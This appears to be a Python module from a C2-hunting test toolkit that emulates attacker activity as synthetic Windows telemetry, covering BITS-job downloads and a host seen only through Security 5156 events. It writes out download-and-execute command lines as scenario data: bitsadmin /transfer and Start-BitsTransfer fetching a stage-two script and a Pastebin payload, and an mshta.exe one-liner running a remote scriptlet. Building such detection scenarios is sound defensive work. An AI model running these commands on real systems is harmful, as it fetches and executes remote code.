"""Evidence sources beyond a process's own Sysmon 3: BITS jobs and Security 5156.

- `bits_transfer`: bitsadmin.exe and PowerShell's Start-BitsTransfer hand downloads to the
  BITS service, so the only Sysmon 3 and 22 are svchost.exe's; the creator is named by the
  BITS-Client event 3 (processPath, processId) of the job whose 59/60 carry the URL.
- `security_5156`: a host whose Sysmon configuration logs no network connections (Sysmon 1 and
  22 only) but whose Security log audits process creation (4688) and the Windows Filtering
  Platform (5156): mshta.exe's fetch exists only as a 5156.

The URLs and commands are scenario content; services and binaries come from the knowledge.
"""

from __future__ import annotations

from datetime import timedelta

from c2hunt.emulate.adversary import CMD, POWERSHELL, TEMP, VICTIM, VICTIM_USER
from c2hunt.emulate.baseline import EDGE, browse
from c2hunt.emulate.world import Scenario, World

BITSADMIN = "C:\\Windows\\System32\\bitsadmin.exe"
MSHTA = "C:\\Windows\\System32\\mshta.exe"
KIOSK = "WS-LAB-14"
KIOSK_USER = "CORP\\r.ito"


def bits_transfer(world: World) -> Scenario:
    """bitsadmin /transfer from GitHub raw content, then Start-BitsTransfer from Pastebin."""
    host = world.host(VICTIM, VICTIM_USER, audit=True)
    standing = world.standing[VICTIM]
    explorer = standing.explorer
    raw = "raw." + world.domain("githubusercontent.com")
    url = f"https://{raw}/argus-lab/c2-test/main/stage2.ps1"
    at = world.at(4.3, 2)
    cmd = host.spawn(explorer, CMD, f'"{CMD}" ', at, cwd="C:\\Users\\m.keller\\")
    at += timedelta(seconds=world.rng.uniform(5, 40))
    command = f"bitsadmin.exe /transfer argus /download /priority foreground {url} {TEMP}\\s2.ps1"
    bitsadmin = host.spawn(cmd, BITSADMIN, command, at)
    host.bits_job(
        bitsadmin,
        standing.bits,
        "argus",
        url,
        at + timedelta(milliseconds=world.rng.randint(80, 300)),
        world.rng.randint(2_000, 9_000),
    )
    pastebin = world.domain("pastebin.com")
    paste = f"https://{pastebin}/raw/{host.guid_text()[:8]}"
    script = f"Start-BitsTransfer -Source {paste} -Destination $env:TEMP\\cfg.txt"
    at += timedelta(minutes=world.rng.uniform(2, 6))
    ps = host.spawn(cmd, POWERSHELL, f'powershell.exe -NoProfile -Command "{script}"', at)
    host.script_block(ps, script, at + timedelta(milliseconds=400))
    host.bits_job(
        ps,
        standing.bits,
        "BITS Transfer",
        paste,
        at + timedelta(milliseconds=world.rng.randint(600, 900)),
        world.rng.randint(200, 4_000),
    )
    return Scenario(
        "bits_transfer",
        "source",
        "BITS jobs created by bitsadmin.exe and Start-BitsTransfer, downloaded by svchost.exe",
        (VICTIM,),
        (bitsadmin.guid, ps.guid),
        (raw, pastebin),
        ("bits_transfer", "url_in_command_line"),
        finding_sources=("bits_url",),
    )


def security_5156(world: World) -> Scenario:
    """mshta.exe runs a scriptlet from GitHub raw content on a host without Sysmon 3."""
    host = world.host(KIOSK, KIOSK_USER, audit=True, audit_processes=True, sysmon_network=False)
    explorer = world.standing[KIOSK].explorer
    assert explorer is not None
    browse(world, host, explorer, EDGE)
    raw = "raw." + world.domain("githubusercontent.com")
    sct = f"https://{raw}/argus-lab/c2-test/main/run.sct"
    command = f"mshta.exe javascript:a=(GetObject('script:{sct}')).Exec();close();"
    at = world.at(2.8, 10)
    mshta = host.spawn(explorer, MSHTA, command, at)
    host.connect(mshta, raw, at + timedelta(milliseconds=world.rng.randint(200, 600)))
    return Scenario(
        "security_5156",
        "source",
        "mshta.exe fetching from GitHub on a host whose Sysmon logs no connections (Security 5156)",
        (KIOSK,),
        (mshta.guid,),
        (raw,),
        ("url_in_command_line",),
        finding_sources=("dns_process",),
    )


SOURCES = (bits_transfer, security_5156)
